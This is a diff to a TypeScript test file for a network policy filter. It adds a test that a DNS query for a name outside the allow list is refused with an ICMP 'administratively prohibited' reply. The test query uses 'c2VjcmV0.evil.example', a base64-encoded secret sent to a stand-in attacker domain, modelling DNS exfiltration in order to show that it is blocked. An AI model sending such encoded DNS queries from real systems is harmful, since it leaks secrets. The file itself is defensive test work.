@@ -6,13 +6,16 @@
  * file writes) checks what they mean and that every checksum in them is right, so neither
  * direction rests on softnet's own parser.
  */
+
 import { heapStats } from "bun:jsc";
 import { describe, expect, test } from "bun:test";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parseCommandLine } from "../../src/cli.ts";
-import type { Policy } from "../../src/policy/policy.ts";
+import { LearnedNames } from "../../src/policy/learned-names.ts";
+import { type NamePattern, NamePatterns, parseNamePattern } from "../../src/policy/name-patterns.ts";
+import { Policy } from "../../src/policy/policy.ts";
 import { Reason, reasonName } from "../../src/policy/reasons.ts";
 import {
   buildRejectReply,
@@ -22,7 +25,10 @@ import {
   REJECT_REPLY_MAX_BYTES,
   Rejecter,
 } from "../../src/policy/reject.ts";
+import { parseRuleTarget, RuleTable, type RuleTarget } from "../../src/policy/rules.ts";
 import { parseIpv4, parseMac } from "../../src/wire/bytes.ts";
+import { DhcpMessageType } from "../../src/wire/dhcp.ts";
+import { emitDnsMessage } from "../../src/wire/dns.ts";
 import { IcmpType } from "../../src/wire/icmp.ts";
 import { IpProtocol } from "../../src/wire/ipv4.ts";
 import { TcpFlag } from "../../src/wire/tcp.ts";
@@ -30,6 +36,8 @@ import { haveTool } from "../support/capture-readers.ts";
 import { REQUIRED_IN_CI } from "../support/ci.ts";
 import {
   BROADCAST,
+  dhcpServerFrame,
+  GATEWAY,
   HOST_MAC,
   icmpEchoFrame,
   OTHER_MAC,
@@ -472,9 +480,15 @@ describe("what is never answered", () => {
     ]) {
       expect(buildRejectReply(policy, Reason.BLOCKED_BY_RULE, frame, 0, frame.length, T0, out, 0)).toBe(0);
     }
-    // And no reason but the two is ever answered, whatever the frame.
+    // And no reason but those three is ever answered, whatever the frame.
     for (let reason = 0; reason < 64; reason++) {
-      if (reason === Reason.BLOCKED_BY_RULE || reason === Reason.NOT_ALLOWED_DESTINATION) continue;
+      if (
+        reason === Reason.BLOCKED_BY_RULE ||
+        reason === Reason.NOT_ALLOWED_DESTINATION ||
+        reason === Reason.DNS_NAME_NOT_ALLOWED
+      ) {
+        continue;
+      }
       expect(buildRejectReply(policy, reason, SYN, 0, SYN.length, T0, out, 0)).toBe(0);
     }
   });
@@ -576,5 +590,40 @@ describe("--reject on the command line", () => {
     const parsed = parseCommandLine(["--help"]);
     expect(parsed.kind).toBe("print");
     if (parsed.kind === "print") expect(parsed.text).toMatch(/--reject\s+answer what the rules drop/);
+  });
+});
+
+describe("--reject and names in --allow", () => {
+  test("a DNS query for a name the list does not have, under --block 0.0.0.0/0, gets ICMP 3/13", () => {
+    const gateway = parseIpv4(GATEWAY)!;
+    const names = new LearnedNames(new NamePatterns([parseNamePattern("github.com") as NamePattern]));
+    const block = parseRuleTarget("0.0.0.0/0") as RuleTarget;
+    const policy = new Policy({
+      vmMac: parseMac(VM_MAC)!,
+      gateway,
+      prefixLength: 24,
+      isolated: true,
+      rules: RuleTable.compile([{ action: "block", target: block }], gateway, names),
+      names,
+    });
+    const ack = dhcpServerFrame({
+      messageType: DhcpMessageType.ACK,
+      leaseTimeSeconds: 600,
+      dnsServers: [GATEWAY],
+    });
+    policy.observeFromHost(ack, 0, ack.length, T0);
+    const query = udpFrame({
+      dst: GATEWAY,
+      dport: 53,
+      payload: emitDnsMessage({
+        id: 3,
+        response: false,
+        question: { name: "c2VjcmV0.evil.example", type: 1 },
+      }),
+    });
+    const [reason, reply] = decideAndAnswer(policy, query);
+    expect(reason).toBe("dns-name-not-allowed");
+    // Ethernet (14) + IPv4 (20) + ICMP: type 3 "destination unreachable", code 13 "administratively prohibited".
+    expect(reply === undefined ? undefined : [reply[34], reply[35]]).toEqual([3, 13]);
   });
 });
